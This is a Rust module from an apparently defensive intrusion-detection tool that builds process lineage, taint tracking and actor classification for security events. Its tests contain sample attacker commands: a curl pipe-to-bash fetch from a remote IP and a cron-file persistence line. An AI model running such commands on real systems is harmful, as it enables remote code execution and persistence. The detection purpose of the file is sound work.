//! What the event rules need to know about one event and the processes behind it: the
//! command line an execution event runs, the event's time in milliseconds, whether a person
//! at a terminal is behind it, and who the actor is by behaviour and location — a packaged
//! program, a security agent in its install directory, a package manager, configuration
//! management, a build toolchain, a web server, a service account.
//!
//! Routine-ness is never decided by a name alone: a name counts only together with an
//! executable where packages, agents or toolchains install (a binary called `sa1` or `dpkg`
//! run from /tmp is not routine). Process ancestry comes from the event itself (Defender's
//! initiating process and its parent) and from [`Lineage`], a bounded table of the processes
//! earlier events showed (audit gives only a parent pid).

use super::{EvidenceEvent, MAX_EVIDENCE};
use crate::context::canonical;
use crate::rules::common::unusual_location;
use dossier_events::{EventRef, Format, ProcessRef};
use std::borrow::Cow;
use std::collections::{HashMap, VecDeque};
use std::hash::Hash;

mod actors;
pub(crate) use actors::*;

/// Longest value kept in an evidence field (command lines and scripts can be huge).
const MAX_FIELD: usize = 400;

/// A map keeping at most `cap` entries, forgetting the least recently inserted: the rules'
/// per-host, per-address and per-process state is bounded whatever the input.
pub(crate) struct Bounded<K, V> {
    cap: usize,
    stamp: u64,
    map: HashMap<K, (V, u64)>,
    order: VecDeque<(K, u64)>,
}

impl<K: Hash + Eq + Clone, V> Bounded<K, V> {
    pub fn new(cap: usize) -> Self {
        Bounded {
            cap: cap.max(1),
            stamp: 0,
            map: HashMap::new(),
            order: VecDeque::new(),
        }
    }

    pub fn get<Q>(&self, k: &Q) -> Option<&V>
    where
        K: std::borrow::Borrow<Q>,
        Q: Hash + Eq + ?Sized,
    {
        self.map.get(k).map(|(v, _)| v)
    }

    /// The entry for `k`, made with `make` (and refreshed as the newest) when missing.
    pub fn entry(&mut self, k: K, make: impl FnOnce() -> V) -> &mut V {
        if !self.map.contains_key(&k) {
            self.stamp += 1;
            self.order.push_back((k.clone(), self.stamp));
            self.map.insert(k.clone(), (make(), self.stamp));
            self.evict();
        }
        &mut self.map.get_mut(&k).expect("just inserted").0
    }

    /// Inserts or replaces, as the newest entry.
    pub fn insert(&mut self, k: K, v: V) {
        self.stamp += 1;
        self.order.push_back((k.clone(), self.stamp));
        self.map.insert(k, (v, self.stamp));
        self.evict();
        self.drop_stale();
    }

    /// Makes the entry of `k` (when there is one) the newest, as [`Bounded::insert`] of the
    /// value it has would, without moving the value; whether there was one.
    pub fn touch(&mut self, k: &K) -> bool {
        let Some((_, stamp)) = self.map.get_mut(k) else {
            return false;
        };
        self.stamp += 1;
        *stamp = self.stamp;
        self.order.push_back((k.clone(), self.stamp));
        self.drop_stale();
        true
    }

    fn drop_stale(&mut self) {
        if self.order.len() > 2 * self.cap {
            // Replaced entries left stale stamps behind: drop them.
            let map = &self.map;
            self.order
                .retain(|(k, s)| map.get(k).is_some_and(|(_, cur)| cur == s));
        }
    }

    /// Inserts, as the newest entry, what `make` makes of the value `k` had (if any): as
    /// [`Bounded::insert`], without a copy of the old value.
    pub fn replace_with(&mut self, k: K, make: impl FnOnce(Option<V>) -> V) {
        let old = self.map.remove(&k).map(|(v, _)| v);
        self.insert(k, make(old));
    }

    fn evict(&mut self) {
        while self.map.len() > self.cap {
            let Some((k, s)) = self.order.pop_front() else {
                break;
            };
            if self.map.get(&k).is_some_and(|(_, cur)| *cur == s) {
                self.map.remove(&k);
            }
        }
    }
}

/// A process as far as the events tell: its text borrowed from the event or from
/// [`Lineage`] while an event is judged, owned (`ProcInfo<'static>`) in [`Lineage`].
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct ProcInfo<'a> {
    pub pid: Option<u32>,
    pub ppid: Option<u32>,
    pub name: Option<Cow<'a, str>>,
    pub exe: Option<Cow<'a, str>>,
    pub cmd: Option<Cow<'a, str>>,
    pub user: Option<Cow<'a, str>>,
}

impl<'a> ProcInfo<'a> {
    /// The process an event names, borrowing its text.
    fn from(p: &'a ProcessRef<'_>) -> ProcInfo<'a> {
        let lent = |t: &'a Option<dossier_events::Text<'_>>| t.as_deref().map(Cow::Borrowed);
        ProcInfo {
            pid: p.pid,
            ppid: p.ppid,
            name: lent(&p.name),
            exe: lent(&p.exe),
            cmd: lent(&p.command_line),
            user: lent(&p.user),
        }
    }

    /// The same, owning its text.
    fn into_owned(self) -> ProcInfo<'static> {
        let own = |t: Option<Cow<'a, str>>| t.map(|c| Cow::Owned(c.into_owned()));
        ProcInfo {
            pid: self.pid,
            ppid: self.ppid,
            name: own(self.name),
            exe: own(self.exe),
            cmd: own(self.cmd),
            user: own(self.user),
        }
    }

    /// Whether `p` says nothing `self` does not (each of its fields absent or the same):
    /// merging it over `self` (as [`Lineage::record`] does) would give `self` again.
    fn covers(&self, p: &ProcessRef<'_>) -> bool {
        fn same(mine: &Option<Cow<'_, str>>, theirs: &Option<dossier_events::Text<'_>>) -> bool {
            theirs.as_deref().is_none_or(|t| mine.as_deref() == Some(t))
        }
        p.pid.is_none_or(|x| self.pid == Some(x))
            && p.ppid.is_none_or(|x| self.ppid == Some(x))
            && same(&self.name, &p.name)
            && same(&self.exe, &p.exe)
            && same(&self.cmd, &p.command_line)
            && same(&self.user, &p.user)
    }

    /// Fills what `self` lacks from `other`.
    fn merge(&mut self, other: ProcInfo<'a>) {
        self.ppid = self.ppid.or(other.ppid);
        self.name = self.name.take().or(other.name);
        self.exe = self.exe.take().or(other.exe);
        self.cmd = self.cmd.take().or(other.cmd);
        self.user = self.user.take().or(other.user);
    }

    /// [`ProcInfo::merge`] of `other`, borrowing only what `self` lacks.
    fn merge_from(&mut self, other: &'a ProcInfo<'_>) {
        fn fill<'a>(mine: &mut Option<Cow<'a, str>>, theirs: &'a Option<Cow<'_, str>>) {
            if mine.is_none() {
                *mine = theirs.as_deref().map(Cow::Borrowed);
            }
        }
        self.ppid = self.ppid.or(other.ppid);
        fill(&mut self.name, &other.name);
        fill(&mut self.exe, &other.exe);
        fill(&mut self.cmd, &other.cmd);
        fill(&mut self.user, &other.user);
    }

    /// The program's file name (from the executable, else the name).
    pub fn base(&self) -> &str {
        self.exe
            .as_deref()
            .map(base)
            .or(self.name.as_deref())
            .unwrap_or("")
    }

    /// `bash (pid 4187)`, `/usr/bin/bash (pid 4187)`.
    pub fn label(&self) -> String {
        let what = self
            .exe
            .as_deref()
            .or(self.name.as_deref())
            .unwrap_or("unknown process");
        match self.pid {
            Some(p) => format!("{what} (pid {p})"),
            None => what.to_string(),
        }
    }
}

/// How many processes [`Lineage`] remembers: a busy host starts a few hundred processes a
/// minute, and ancestry is only looked up a few levels up within seconds to minutes.
const LINEAGE_CAP: usize = 16_384;

/// Processes seen in earlier events, by host (its number, see [`super::EventAnalyzer`]) and
/// pid (bounded; a reused pid overwrites).
pub(crate) struct Lineage {
    procs: Bounded<(u32, u32), ProcInfo<'static>>,
}

impl Default for Lineage {
    fn default() -> Self {
        Lineage {
            procs: Bounded::new(LINEAGE_CAP),
        }
    }
}

impl Lineage {
    /// Remembers the processes `ev` shows.
    pub fn record(&mut self, host: u32, ev: &EventRef<'_>) {
        for p in [&ev.process, &ev.parent].into_iter().flatten() {
            let Some(pid) = p.pid else { continue };
            // The same process again with nothing new (the usual case: a process's every
            // file and network event): what the merge below would make is what is kept.
            if self
                .procs
                .get(&(host, pid))
                .is_some_and(|old| old.covers(p))
            {
                self.procs.touch(&(host, pid));
                continue;
            }
            let info = ProcInfo::from(p).into_owned();
            self.procs.replace_with((host, pid), |old| match old {
                // The same process again (same executable, or one side does not say):
                // complete what is known.
                Some(old) if old.exe.is_none() || info.exe.is_none() || old.exe == info.exe => {
                    let mut merged = info;
                    merged.merge(old);
                    merged
                }
                _ => info,
            });
        }
    }

    pub fn get(&self, host: u32, pid: u32) -> Option<&ProcInfo<'static>> {
        self.procs.get(&(host, pid))
    }
}

/// How many tainted processes are remembered: an intrusion's process trees are small.
const TAINT_CAP: usize = 4096;

/// Processes that belong to an intrusion: a process whose event raised a High or Critical
/// alert (and, for an execution, the shell that started it: the shell the intruder types
/// in), and what those processes start. Whatever descends from them is judged as the
/// intruder's doing: a cron file written by a root shell obtained through a web server's
/// sudo, or a unit written from the shell that ran a downloaded implant, is High even when
/// the written content is not in the record.
pub(crate) struct Taint {
    pids: Bounded<(u32, u32), String>,
}

impl Default for Taint {
    fn default() -> Self {
        Taint {
            pids: Bounded::new(TAINT_CAP),
        }
    }
}

impl Taint {
    /// The reason the acting process or one of its known ancestors is tainted.
    pub fn of(&self, host: u32, v: &View) -> Option<String> {
        v.lineage()
            .filter_map(|p| p.pid)
            .find_map(|pid| self.pids.get(&(host, pid)).cloned())
    }

    pub fn mark(&mut self, host: u32, pid: u32, why: String) {
        self.pids.insert((host, pid), why);
    }
}

/// One event as the rules read it, with its host key and resolved ancestry.
pub(crate) struct View<'a> {
    pub ev: &'a EventRef<'a>,
    pub hk: &'a str,
    /// The acting process (for an execution event, the program started).
    pub proc: Option<ProcInfo<'a>>,
    /// Its parent, then grandparent... (at most four levels): borrowed from [`Lineage`]
    /// when it knows them as they are.
    pub ancestors: Vec<Cow<'a, ProcInfo<'a>>>,
    /// Why the acting process is the intruder's, when it or an ancestor is: it descends from
    /// a process that raised a High or Critical alert (see [`Taint`]).
    pub taint: Option<String>,
    /// The bundle the event was read from, named before its origin's file in evidence.
    pub bundle: Option<&'a str>,
    ms: Option<i64>,
}

impl<'a> View<'a> {
    pub fn new(ev: &'a EventRef<'a>, hk: &'a str, host: u32, lineage: &'a Lineage) -> View<'a> {
        let proc = ev.process.as_ref().map(ProcInfo::from);
        let mut ancestors: Vec<Cow<'a, ProcInfo<'a>>> = Vec::new();
        let mut next = match &ev.parent {
            Some(p) => {
                let mut info = ProcInfo::from(p);
                if let Some(known) = p.pid.and_then(|pid| lineage.get(host, pid)) {
                    info.merge_from(known);
                }
                let ppid = info.ppid;
                ancestors.push(Cow::Owned(info));
                ppid
            }
            None => proc.as_ref().and_then(|p| p.ppid),
        };
        // Defender names the initiating process's parent by file name only.
        if ev.parent.as_ref().is_some_and(|p| p.ppid.is_none())
            && let Some(n) = ev.fields.get("InitiatingProcessParentFileName")
            && ev.source.table.as_deref() == Some("DeviceProcessEvents")
        {
            ancestors.push(Cow::Owned(ProcInfo {
                name: Some(Cow::Owned(base(n).to_string())),
                exe: n.starts_with('/').then(|| Cow::Owned(n.to_string())),
                ..ProcInfo::default()
            }));
            next = None;
        }
        while let Some(pid) = next {
            if ancestors.len() >= 4 || Some(pid) == proc.as_ref().and_then(|p| p.pid) {
                break;
            }
            match lineage.get(host, pid) {
                Some(p) if !ancestors.iter().any(|a| a.pid == Some(pid)) => {
                    ancestors.push(Cow::Borrowed(p));
                    next = p.ppid;
                }
                _ => {
                    if !ancestors.iter().any(|a| a.pid == Some(pid)) {
                        ancestors.push(Cow::Owned(ProcInfo {
                            pid: Some(pid),
                            ..ProcInfo::default()
                        }));
                    }
                    break;
                }
            }
        }
        View {
            ev,
            hk,
            proc,
            ancestors,
            taint: None,
            bundle: None,
            ms: millis(&ev.time),
        }
    }

    /// The event's time in milliseconds since the epoch (None when unreadable).
    pub fn ms(&self) -> Option<i64> {
        self.ms
    }

    pub fn action(&self) -> &str {
        &self.ev.action
    }

    /// Whether the event records a program being started.
    pub fn is_exec(&self) -> bool {
        matches!(self.action(), "execve" | "execveat" | "ProcessCreated")
    }

    /// Whether the event records a command run through sudo (journal or audit `USER_CMD`).
    pub fn is_sudo_command(&self) -> bool {
        matches!(self.action(), "sudo" | "USER_CMD")
            && self.ev.outcome.as_deref() != Some("failure")
    }

    /// Script text recorded by the sensor (Defender `ScriptContent`).
    pub fn script(&self) -> Option<&'a str> {
        (self.action() == "ScriptContent")
            .then_some(self.ev.script.as_deref())
            .flatten()
    }

    /// The command line of what this event runs: an execution, a sudo command, or the
    /// interpreter call of a recorded script.
    pub fn run_command(&self) -> Option<&'a str> {
        if self.is_exec() || self.is_sudo_command() || self.action() == "ScriptContent" {
            self.ev.process.as_ref()?.command_line.as_deref()
        } else {
            None
        }
    }

    /// The acting process's command line, whatever the event.
    pub fn actor_command(&self) -> Option<&'a str> {
        self.ev.process.as_ref()?.command_line.as_deref()
    }

    pub fn exe(&self) -> Option<&str> {
        self.proc.as_ref()?.exe.as_deref()
    }

    /// The account the acting process runs as (else the event's account).
    pub fn user(&self) -> Option<&'a str> {
        let proc_user = self.ev.process.as_ref().and_then(|p| p.user.as_deref());
        match (proc_user, self.ev.user.as_deref()) {
            // A bare uid says less than the event's account name (sudo's invoking user).
            (Some(p), Some(e)) if p.starts_with("uid=") && !e.starts_with("uid=") => Some(e),
            (p, e) => p.or(e),
        }
    }

    /// The event's file, made absolute with the audit record's working directory.
    pub fn file(&self) -> Option<String> {
        let f = self.ev.file.as_deref()?;
        if f.starts_with('/') {
            return Some(f.to_string());
        }
        let cwd = self.ev.fields.get("cwd")?;
        Some(join(cwd, f))
    }

    /// Whether a person at a terminal is behind the event: an audit or sudo record with a
    /// terminal, or a process whose ancestry reaches sshd or login.
    pub fn interactive(&self) -> bool {
        let tty = |k: &str| {
            self.ev.fields.get(k).is_some_and(|t| {
                let t = t.trim_start_matches("/dev/");
                t.starts_with("pts") || t.starts_with("tty")
            })
        };
        if tty("tty") || tty("terminal") {
            return true;
        }
        if self
            .ev
            .fields
            .get("change")
            .is_some_and(|c| c.contains("from=/dev/pts"))
        {
            return true;
        }
        self.ancestors.iter().any(|a| {
            matches!(
                a.base(),
                "sshd" | "sshd-session" | "login" | "tmux: server" | "tmux" | "screen"
            )
        })
    }

    /// The acting process and its ancestors, nearest first.
    pub fn lineage(&self) -> impl Iterator<Item = &ProcInfo<'a>> {
        self.proc.iter().chain(self.ancestors.iter().map(|a| &**a))
    }

    /// The security or monitoring agent behind the event, judged by where its programs and
    /// scripts live (the acting process or an ancestor).
    pub fn agent(&self) -> Option<&'static str> {
        self.lineage().find_map(agent_of)
    }

    /// Whether a package manager (or a package's maintainer script) is behind the event.
    pub fn package_manager(&self) -> bool {
        self.lineage().any(is_package_manager)
    }

    /// Configuration management behind the event (`ansible`, `puppet`...).
    pub fn config_management(&self) -> Option<&'static str> {
        self.lineage().find_map(config_management)
    }

    /// Whether a build toolchain (at a place toolchains install) started the acting process.
    pub fn built_by_toolchain(&self) -> bool {
        self.ancestors.iter().take(3).any(|a| is_build_tool(a))
    }

    /// Whether a web server or an account web servers run as is behind the event.
    pub fn web_context(&self) -> bool {
        self.user().is_some_and(service_account)
            || self
                .lineage()
                .any(|p| is_web_server(p.base()) || p.user.as_deref().is_some_and(service_account))
    }

    /// A short name for the parent: `php-fpm8.2 (pid 880)`.
    pub fn parent_label(&self) -> Option<String> {
        self.ancestors.first().map(|a| a.label())
    }

    /// The evidence entry for this event, with `extra` fields first.
    pub fn evidence(&self, extra: &[(String, String)]) -> EvidenceEvent {
        let ev = self.ev;
        let mut fields: Vec<(String, String)> =
            extra.iter().map(|(k, v)| (k.clone(), clip(v))).collect();
        let mut add = |k: &str, v: Option<String>| {
            if let Some(v) = v.filter(|v| !v.is_empty())
                && !fields.iter().any(|(fk, _)| fk == k)
            {
                fields.push((k.to_string(), clip(&v)));
            }
        };
        if let Some(p) = &self.proc {
            add("Process", Some(p.label()));
            add("Command", p.cmd.as_deref().map(str::to_string));
        }
        add("Parent", self.parent_label());
        add("Account", self.user().map(str::to_string));
        if let Some(peer) = &ev.peer {
            add(
                "Remote",
                peer.addr.as_ref().map(|a| match peer.port {
                    Some(p) => format!("{a}:{p}"),
                    None => a.to_string(),
                }),
            );
        }
        add("File", self.file());
        add(
            "SHA256",
            ev.file_sha256
                .as_deref()
                .or_else(|| ev.process.as_ref().and_then(|p| p.sha256.as_deref()))
                .map(str::to_string),
        );
        add("Outcome", ev.outcome.as_deref().map(str::to_string));
        EvidenceEvent {
            time: ev.time.to_string(),
            host: ev.host.to_string(),
            action: ev.action.to_string(),
            source: source_label(ev),
            fields,
            origin: match self.bundle {
                Some(b) => dossier_events::Origin {
                    file: format!("{b}: {}", ev.origin.file),
                    record: ev.origin.record.to_string(),
                },
                None => ev.origin.to_origin(),
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bounded_map_forgets_the_oldest() {
        let mut m = Bounded::new(2);
        m.insert("a", 1);
        m.insert("b", 2);
        m.insert("a", 3); // refreshed: b is now the oldest
        m.insert("c", 4);
        assert_eq!(m.get(&"a"), Some(&3));
        assert_eq!(m.get(&"b"), None);
        assert_eq!(m.get(&"c"), Some(&4));
        for i in 0..100 {
            m.insert("x", i);
        }
        assert!(m.order.len() <= 4);
    }

    #[test]
    fn touching_an_entry_is_inserting_its_value_again() {
        let (mut a, mut b) = (Bounded::new(3), Bounded::new(3));
        for m in [&mut a, &mut b] {
            for (k, v) in [("a", 1), ("b", 2), ("c", 3)] {
                m.insert(k, v);
            }
        }
        for i in 0..20 {
            let k = ["a", "b", "c"][i % 3];
            a.insert(k, *a.get(&k).unwrap());
            assert!(b.touch(&k));
        }
        assert!(!b.touch(&"z"));
        a.insert("a", 1);
        b.touch(&"a");
        a.insert("d", 4);
        b.insert("d", 4);
        for k in ["a", "b", "c", "d"] {
            assert_eq!(a.get(&k), b.get(&k), "{k}");
        }
        assert_eq!(a.order, b.order);
    }

    #[test]
    fn a_process_seen_again_with_nothing_new_is_kept_as_it_was() {
        let line = |p: &str| {
            format!(
                r#"{{"time":"t","host":"h","source":{{"format":"audit"}},"action":"openat",
                "process":{p},"origin":{{"file":"f","record":"r"}}}}"#
            )
        };
        let mut l = Lineage::default();
        let full = line(r#"{"pid":7,"ppid":1,"name":"php","exe":"/usr/sbin/php","user":"www"}"#);
        l.record(0, &serde_json::from_str(&full).unwrap());
        let before = l.get(0, 7).cloned().unwrap();
        let same = line(r#"{"pid":7,"name":"php","exe":"/usr/sbin/php"}"#);
        l.record(0, &serde_json::from_str(&same).unwrap());
        assert_eq!(l.get(0, 7), Some(&before));
        // Something new is merged in; another executable replaces the process.
        let more = line(r#"{"pid":7,"exe":"/usr/sbin/php","command_line":"php-fpm: pool"}"#);
        l.record(0, &serde_json::from_str(&more).unwrap());
        let got = l.get(0, 7).unwrap();
        assert_eq!(got.cmd.as_deref(), Some("php-fpm: pool"));
        assert_eq!((got.ppid, got.user.as_deref()), (Some(1), Some("www")));
        let other = line(r#"{"pid":7,"exe":"/tmp/x"}"#);
        l.record(0, &serde_json::from_str(&other).unwrap());
        let got = l.get(0, 7).unwrap();
        assert_eq!((got.exe.as_deref(), got.ppid), (Some("/tmp/x"), None));
    }

    #[test]
    fn urls_paths_and_places() {
        let c = "curl -fsSL http://203.0.113.45:8080/x.sh | bash";
        assert_eq!(url_hosts(c), ["203.0.113.45"]);
        assert_eq!(first_url(c), Some("http://203.0.113.45:8080/x.sh"));
        assert_eq!(
            unusual_paths(
                "echo '* * * * * root /tmp/.x/syncd' > /etc/cron.d/syncd",
                None
            )[0]
            .0,
            "/tmp/.x/syncd"
        );
        assert!(unusual_paths("cmd >/dev/null 2>&1", None).is_empty());
        assert!(packaged("/bin/python3") && !packaged("/usr/local/bin/x") && !packaged("/tmp/sa1"));
        assert_eq!(
            script_path("/bin/python3 /opt/microsoft/mdatp/conf/scripts/x.py --a"),
            Some("/opt/microsoft/mdatp/conf/scripts/x.py")
        );
        assert_eq!(
            join("/home/alice", ".bash_history"),
            "/home/alice/.bash_history"
        );
        assert!(
            private_addr("10.0.5.10")
                && private_addr("100.64.0.1")
                && !private_addr("203.0.113.45")
        );
    }
}
